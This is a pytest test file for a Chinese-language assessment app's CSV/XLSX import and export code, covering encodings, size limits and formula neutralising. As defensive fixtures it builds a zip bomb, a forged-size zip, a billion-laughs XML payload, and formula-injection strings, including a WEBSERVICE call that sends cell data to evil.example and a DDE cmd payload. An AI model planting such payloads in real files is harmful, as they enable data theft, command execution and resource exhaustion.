"""Tables in and out: decoding, CSV/XLSX reading with its safety limits, formula neutralising, streamed writing."""

import codecs
import csv
import datetime
import io
import itertools
import struct
import tracemalloc
import zipfile
import zlib
from decimal import Decimal

import openpyxl
import openpyxl.xml
import pytest
from defusedxml import EntitiesForbidden
from django.utils import translation

from assessment.bulk import tables
from assessment.bulk.tables import TableError, csv_stream, decode_text, neutralise, read_table, xlsx_write
from assessment.questionnaire.result import Result

TEXT = "企业名称,员工人数\n华南五金,12\n"
MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"


def read(data, filename="a.csv", max_bytes=MB, max_rows=100):
    return read_table(data, filename, max_bytes=max_bytes, max_rows=max_rows)


def xlsx_bytes(*rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite(data, changes):
    """The same zip with entries changed or added: changes maps a path to change(text or None) -> text."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        names = old.namelist()
        for name in names + [n for n in changes if n not in names]:
            text = old.read(name).decode("utf-8") if name in names else None
            if name in changes:
                changed = changes[name](text)
                assert changed != text, f"{name} was not changed"
                text = changed
            new.writestr(name, text)
    return out.getvalue()


@pytest.fixture(autouse=True)
def english():
    """The messages are asserted in English (the site's default language is Chinese)."""
    with translation.override("en"):
        yield


@pytest.fixture
def openpyxl_calls(monkeypatch):
    """Records any call to openpyxl.load_workbook, which then fails loudly."""
    calls = []

    def refuse(*args, **kwargs):
        calls.append(args)
        raise AssertionError("openpyxl must not be reached")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    return calls


# --- Decoding -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        TEXT.encode("utf-8"),
        codecs.BOM_UTF8 + TEXT.encode("utf-8"),
        codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"),
        codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"),
        TEXT.encode("gbk"),
        TEXT.encode("gb18030"),
    ],
    ids=["utf8", "utf8-bom", "utf16-le", "utf16-be", "gbk", "gb18030"],
)
def test_it_decodes_every_encoding_excel_writes_to_the_same_text(data):
    assert decode_text(data) == TEXT


def test_it_refuses_bytes_that_are_neither_utf8_nor_gb18030():
    data = b"\x80\x81\xff"
    for encoding in ("utf-8", "gb18030"):
        with pytest.raises(UnicodeDecodeError):
            data.decode(encoding)
    with pytest.raises(TableError, match="could not be read as text"):
        decode_text(data)


@pytest.mark.parametrize(
    "data",
    [codecs.BOM_UTF16_LE + b"a\x00b", "a,b".encode("utf-16-le"), "a,b".encode("utf-32")],
    ids=["utf16-odd-length", "utf16-without-bom", "utf32"],
)
def test_it_refuses_broken_or_binary_looking_text(data):
    with pytest.raises(TableError, match="could not be read as text"):
        decode_text(data)


# --- CSV ----------------------------------------------------------------------------------


def test_it_reads_a_gbk_csv_with_a_chinese_header():
    assert read(TEXT.encode("gbk")) == [["企业名称", "员工人数"], ["华南五金", "12"]]


def test_it_reads_tab_separated_text_and_strips_cells():
    data = "名称\t备注\n 甲 \t有,逗号\n".encode()
    assert read(data, "export.TXT") == [["名称", "备注"], ["甲", "有,逗号"]]


def test_it_keeps_commas_when_the_first_line_has_commas_and_tabs():
    assert read(b"a,b\tc\n1,2\n") == [["a", "b\tc"], ["1", "2"]]


def test_it_reads_quoted_line_breaks_and_old_mac_line_endings():
    assert read(b'a,b\r"one\r\ntwo",2\r') == [["a", "b"], ["one\r\ntwo", "2"]]


def test_it_drops_trailing_empty_rows_but_keeps_empty_rows_in_between():
    assert read(b"a,b\n1,2\n,\n3,4\n,\n\n , \n") == [["a", "b"], ["1", "2"], [], ["3", "4"]]


def test_it_refuses_a_malformed_csv_with_a_message_instead_of_crashing():
    with pytest.raises(TableError, match="near line 2"):
        read(b'a,b\n"' + b"x" * (csv.field_size_limit() + 1) + b'",1\n', max_bytes=10 * MB)


def test_it_refuses_too_many_columns_but_not_empty_padding():
    assert read(b"a,b" + b"," * 1000 + b"\n") == [["a", "b", *[""] * (tables.MAX_COLUMNS - 2)]]
    with pytest.raises(TableError, match="more than 500 columns"):
        read(b"a" + b"," * 1000 + b"b\n")


# --- Limits and file types ----------------------------------------------------------------


def test_it_refuses_an_oversize_file_naming_the_limit():
    with pytest.raises(TableError, match="larger than 2 MB"):
        read(b"a\n" * (MB + 1), max_bytes=2 * MB)


def test_it_refuses_too_many_rows_naming_the_limit_and_counts_only_data_rows():
    header_and_three = b"name\n1\n2\n3\n\n\n"
    assert len(read(header_and_three, max_rows=3)) == 4
    with pytest.raises(TableError, match="more than 2 rows"):
        read(header_and_three, max_rows=2)
    with pytest.raises(TableError, match="more than 2 rows"):
        read(xlsx_bytes(["name"], [1], [2], [3]), "a.xlsx", max_rows=2)


def test_it_stops_reading_as_soon_as_the_row_limit_is_passed():
    pulled = []

    def rows():
        for number in itertools.count():
            pulled.append(number)
            yield [str(number)]

    with pytest.raises(TableError):
        tables._collect(rows(), max_rows=10)
    assert len(pulled) == 12  # the header, ten rows, and the one too many


def test_it_lists_the_accepted_types_for_any_other_file():
    for filename in ("a.pdf", "a.xls", "csv", "a.csv.exe", ""):
        with pytest.raises(TableError, match="CSV or XLSX"):
            read(b"a,b\n", filename)


# --- XLSX ---------------------------------------------------------------------------------


def test_it_reads_the_first_sheet_of_a_real_xlsx_as_strings():
    book = openpyxl.Workbook()
    book.active.append(["名称", "人数", "比例", "空", "日期", "是否"])
    book.active.append(["  华南五金 ", 12, 2.5, None, datetime.datetime(2025, 3, 1), True])
    book.active.append(["中文", 3.0, 0.1 + 0.2, None, datetime.datetime(2025, 3, 1, 9, 30), None])
    book.create_sheet("second").append(["not read"])
    out = io.BytesIO()
    book.save(out)
    assert read(out.getvalue(), "answers.XLSX") == [
        ["名称", "人数", "比例", "空", "日期", "是否"],
        ["华南五金", "12", "2.5", "", "2025-03-01", "TRUE"],
        ["中文", "3", "0.3", "", "2025-03-01T09:30:00"],  # rows end at their last cell, as in CSV
    ]


def test_it_ignores_a_forged_sheet_dimension():
    data = rewrite(
        xlsx_bytes(["a", "b"], [1, 2]),
        {SHEET: lambda xml: xml.replace('<dimension ref="A1:B2" />', '<dimension ref="A1:XFD1048576" />')},
    )
    assert read(data, "a.xlsx") == [["a", "b"], ["1", "2"]]


def test_it_refuses_a_zip_bomb_before_openpyxl_sees_it(openpyxl_calls):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb, bomb.open("xl/worksheets/sheet1.xml", "w") as entry:
        for _ in range(50):
            entry.write(bytes(MB))
    data = out.getvalue()
    assert len(data) * 1000 < 50 * MB  # it really inflates more than 1000:1
    with pytest.raises(TableError, match="XLSX file could not be read"):
        read(data, "bomb.xlsx")
    assert openpyxl_calls == []


def test_it_refuses_a_zip_with_too_many_entries_before_openpyxl_sees_it(openpyxl_calls):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(tables.MAX_XLSX_ENTRIES + 1):
            archive.writestr(f"x{number}.xml", "<x/>")
    with pytest.raises(TableError, match="XLSX file could not be read"):
        read(out.getvalue(), "many.xlsx")
    assert openpyxl_calls == []


def forged_zip(real, claimed):
    """A zip whose one entry inflates to `real` but claims (size and CRC) to be its first `claimed` bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", real)  # the first part openpyxl reads, whole
    data = bytearray(out.getvalue())
    central = data.rfind(b"PK\x01\x02")
    for crc_at, size_at in ((14, 22), (central + 16, central + 24)):  # local header, central directory
        struct.pack_into("<I", data, crc_at, zlib.crc32(real[:claimed]))
        struct.pack_into("<I", data, size_at, claimed)
    return bytes(data)


def peak_memory(function):
    tracemalloc.start()
    try:
        function()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_it_bounds_the_work_of_a_zip_whose_sizes_are_forged():
    data = forged_zip(bytes(20 * MB), claimed=1000)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        # The declared sizes pass every check, yet a plain read() inflates all 20 MB at once.
        assert archive.infolist()[0].file_size == 1000
        assert peak_memory(lambda: archive.read("[Content_Types].xml")) > 20 * MB

    def refused():
        with pytest.raises(TableError, match="XLSX file could not be read"):
            read(data, "forged.xlsx")

    assert peak_memory(refused) < 5 * MB


def test_it_refuses_compression_methods_excel_does_not_use(openpyxl_calls):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(TableError, match="XLSX file could not be read"):
        read(out.getvalue(), "a.xlsx")
    assert openpyxl_calls == []


def test_it_refuses_an_xlsx_that_is_not_a_zip(openpyxl_calls):
    for data in (b"", b"not a zip", TEXT.encode()):
        with pytest.raises(TableError, match="XLSX file could not be read"):
            read(data, "a.xlsx")
    assert openpyxl_calls == []


def test_it_refuses_a_zip_that_is_not_a_workbook():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "hello")
    with pytest.raises(TableError, match="XLSX file could not be read"):
        read(out.getvalue(), "a.xlsx")


LAUGHS = "".join(
    ['<!DOCTYPE sst [<!ENTITY lol0 "lol">', *(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)), "]>"]
)  # &lol9; would expand to 10**9 "lol"s: 3 GB from a file of a few kilobytes


def causes(error):
    """The exception types an error was raised while handling, innermost last."""
    chain = []
    while error is not None:
        chain.append(type(error))
        error = error.__context__
    return chain


def shared_strings_xlsx(doctype, text):
    """A workbook whose only cell is string 0 of xl/sharedStrings.xml (openpyxl itself writes inline strings)."""
    sst = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{text}</t></si></sst>'
    part = '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    return rewrite(
        xlsx_bytes(["harmless"]),
        {
            SHEET: lambda xml: xml.replace(
                '<c r="A1" t="inlineStr"><is><t>harmless</t></is></c>', '<c r="A1" t="s"><v>0</v></c>'
            ),
            "xl/sharedStrings.xml": lambda _: f'<?xml version="1.0" encoding="UTF-8"?>{doctype}{sst}',
            "[Content_Types].xml": lambda xml: xml.replace(
                "</Types>", part + 'spreadsheetml.sharedStrings+xml"/></Types>'
            ),
        },
    )


def test_it_never_expands_xml_entities_billion_laughs_in_shared_strings():
    # The same construction without the payload reads, so the refusal is the entities' doing.
    assert read(shared_strings_xlsx("", "from shared strings"), "a.xlsx") == [["from shared strings"]]
    data = shared_strings_xlsx(LAUGHS, "&lol9;")
    assert len(data) < 10_000
    with pytest.raises(TableError, match="XLSX file could not be read") as refused:
        read(data, "laughs.xlsx")
    assert EntitiesForbidden in causes(refused.value)  # defusedxml stopped it before any expansion


def test_it_never_expands_xml_entities_billion_laughs_in_a_sheet():
    data = rewrite(
        xlsx_bytes(["harmless"]),
        {SHEET: lambda xml: LAUGHS.replace("sst", "worksheet") + xml.replace("harmless", "&lol9;")},
    )
    with pytest.raises(TableError, match="XLSX file could not be read") as refused:
        read(data, "laughs.xlsx")
    assert EntitiesForbidden in causes(refused.value)


def test_it_refuses_to_read_xlsx_when_openpyxl_would_not_use_defusedxml(monkeypatch):
    assert openpyxl.xml.DEFUSEDXML is True  # defusedxml is pinned in requirements.txt
    monkeypatch.setattr(openpyxl.xml, "DEFUSEDXML", False)
    with pytest.raises(RuntimeError, match="defusedxml"):
        read(xlsx_bytes(["a"]), "a.xlsx")


# --- Exports ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil")'])
def test_it_neutralises_text_a_spreadsheet_would_run(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [3, -3, 2.5, -0.5, Decimal("-1.25"), True])
def test_it_leaves_numbers_as_numbers(value):
    assert neutralise(value) is value


def test_it_leaves_ordinary_text_alone_and_blanks_none():
    for text in ("华南五金", "a=b", "1-2", "", "e-mail: a@b.cn", " =x"):
        assert neutralise(text) == text
    assert neutralise(None) == ""
    assert neutralise(datetime.date(2025, 3, 1)) == "2025-03-01"


def test_it_streams_csv_lazily_bom_first_with_neutralised_cells():
    pulled = []

    def rows():
        yield ["firm", "score"]
        for number in range(100_000):
            pulled.append(number)
            yield [f"=cmd|{number}" if number == 0 else f"firm {number}", number]

    stream = csv_stream(rows())
    first = list(itertools.islice(stream, 10))
    assert first[0] == "\ufeff"
    assert first[1] == "firm,score\r\n"
    assert first[2] == "'=cmd|0,0\r\n"
    assert len(pulled) <= 10  # the generator advanced only as far as the chunks taken
    rest = list(stream)
    assert len(pulled) == 100_000 and len(first) + len(rest) == 100_002
    assert rest[-1] == "firm 99999,99999\r\n"


def test_it_writes_xlsx_with_neutralised_text_and_numeric_numbers(tmp_path):
    target = tmp_path / "out.xlsx"
    long_title = "结果" * 20
    xlsx_write(
        str(target),
        [
            (long_title, iter([["firm", "score", "ratio"], ["=SUM(A1:A9)", 7, 0.5], ["bad\x00\x07char", None, "-3"]])),
            (long_title, [["second sheet with the same long title"]]),
            ("a/b:c", []),
        ],
    )
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == [long_title[:31], long_title[:27] + " (2)", "a_b_c"]
    values = list(book.worksheets[0].iter_rows(values_only=True))
    assert values == [("firm", "score", "ratio"), ("'=SUM(A1:A9)", 7, 0.5), ("badchar", None, "'-3")]
    assert isinstance(values[1][1], int) and isinstance(values[1][2], float)


def test_it_writes_a_valid_xlsx_to_a_file_object_even_without_sheets():
    out = io.BytesIO()
    xlsx_write(out, [])
    assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).sheetnames == ["Sheet"]


HOSTILE = [
    '\x01=WEBSERVICE("http://evil.example/?"&A2)',
    "\x00\x1f+cmd|' /C calc'!A0",
    "\x0b-2+3",
    "\x02@SUM(1+1)",
    '=HYPERLINK("http://evil.example")',
]


def test_it_writes_no_formula_cell_whatever_control_characters_come_first(tmp_path):
    path = tmp_path / "out.xlsx"
    xlsx_write(path, [("Results", [["firm", "note"], *([text, text] for text in HOSTILE)])])
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    values = [row for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
    assert all(str(cell).startswith("'") for row in values for cell in row)
    assert values[0][0] == "'" + '=WEBSERVICE("http://evil.example/?"&A2)'


def test_it_neutralises_every_manifest_column_of_a_bulk_zip(tmp_path):
    from assessment.bulk.exports import write_bundle

    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(b"%PDF-1.7\n")
    items = [
        {
            "firm": text,
            "result": Result(overall=50),
            "status": text,
            "error": text,
            "path": pdf,
            "filename": f"{text}.pdf",
        }
        for text in ("=1+1", "+1", "-1", "@A1", "\x01=1+1")
    ]
    target = io.BytesIO()
    write_bundle(target, items, [])
    with zipfile.ZipFile(target) as bundle:
        rows = list(csv.reader(io.StringIO(bundle.read("manifest.csv").decode("utf-8-sig"))))
    for row in rows[1:]:
        for cell in [row[0], *row[2:]]:
            assert not cell.startswith(tables.FORMULA_START), row


def test_it_reads_a_percent_formatted_cell_as_the_percentage_the_user_typed(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["export_share", "employees"])
    sheet.append([0.3, 1200])
    sheet["A2"].number_format = "0%"
    sheet.append([0.125, 5])
    sheet["A3"].number_format = "0.0%"
    path = tmp_path / "p.xlsx"
    book.save(path)
    rows = read_table(path.read_bytes(), "p.xlsx", max_bytes=10**7, max_rows=100)
    assert rows[1:] == [["30%", "1200"], ["12.5%", "5"]]


def test_it_reads_libreoffice_percent_formats_and_leaves_a_shown_percent_sign_alone(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["export_share"])
    # LibreOffice's own (with its locale tag), then formats that show a "%" after the number as typed.
    for value, code in ((0.3, "[$-804]0%"), (0.125, "0.00%;[RED]-0.00%"), (30, '0"%"'), (30, "0\\%")):
        sheet.append([value])
        sheet.cell(sheet.max_row, 1).number_format = code
    path = tmp_path / "p.xlsx"
    book.save(path)
    rows = read_table(path.read_bytes(), "p.xlsx", max_bytes=10**7, max_rows=100)
    assert rows[1:] == [["30%"], ["12.5%"], ["30"], ["30"]]


@pytest.mark.parametrize(
    ("cell", "value"), [("30%", 30), ("30 %", 30), ("３０％", 30), ("12.5%", 12.5), ("30", 30), ("３０", 30)]
)
def test_it_imports_percentages_and_full_width_digits_as_typed(shipped, cell, value):
    from assessment.bulk import importing

    q = shipped.questions["export_share"]
    assert importing.convert(q, cell, importing._Matcher(shipped)) == value


def test_it_refuses_a_percent_sign_where_the_unit_is_not_percent(shipped):
    from assessment.bulk import importing

    with pytest.raises(ValueError):
        importing.convert(shipped.questions["employees"], "30%", importing._Matcher(shipped))
    assert importing.convert(shipped.questions["employees"], "1,200", importing._Matcher(shipped)) == 1200


@pytest.mark.parametrize(
    ("cell", "key"),
    [
        ("广东省", "guangdong"),
        ("上海市", "shanghai"),
        ("广西壮族自治区", "guangxi"),
        ("内蒙古自治区", "inner_mongolia"),
        ("新疆维吾尔自治区", "xinjiang"),
        ("宁夏回族自治区", "ningxia"),
        ("广东", "guangdong"),
        ("Guangdong", "guangdong"),
    ],
)
def test_it_reads_provinces_written_with_their_official_suffix(shipped, cell, key):
    from assessment.bulk import importing

    assert importing.convert(shipped.questions["province"], cell, importing._Matcher(shipped)) == key


def test_it_reads_multiple_choices_whose_option_texts_hold_separators(shipped):
    from assessment.bulk import importing

    q = next(
        q for q in shipped.questions.values() if q.type == "multi" and any("、" in o.text["zh-hans"] for o in q.options)
    )
    with_sep = [o for o in q.options if "、" in o.text["zh-hans"] and not o.exclusive]
    other = next(o for o in q.options if o not in with_sep and not o.exclusive and not o.na)
    matcher = importing._Matcher(shipped)
    for sep in ("、", "，", ",", "；", ";", "\n"):
        cell = f"{with_sep[0].text['zh-hans']}{sep}{other.text['zh-hans']}"
        assert importing.convert(q, cell, matcher) == [with_sep[0].key, other.key], sep
    assert importing.convert(q, f"{other.key}; {with_sep[0].key}", matcher) == [other.key, with_sep[0].key]
    with pytest.raises(ValueError):
        importing.convert(q, f"{other.text['zh-hans']}、不存在的选项", matcher)


def test_it_strips_the_same_control_characters_openpyxl_refuses():
    # tables keeps its own copy so that importing it does not import openpyxl.
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    assert tables.ILLEGAL_CHARACTERS_RE.pattern == ILLEGAL_CHARACTERS_RE.pattern
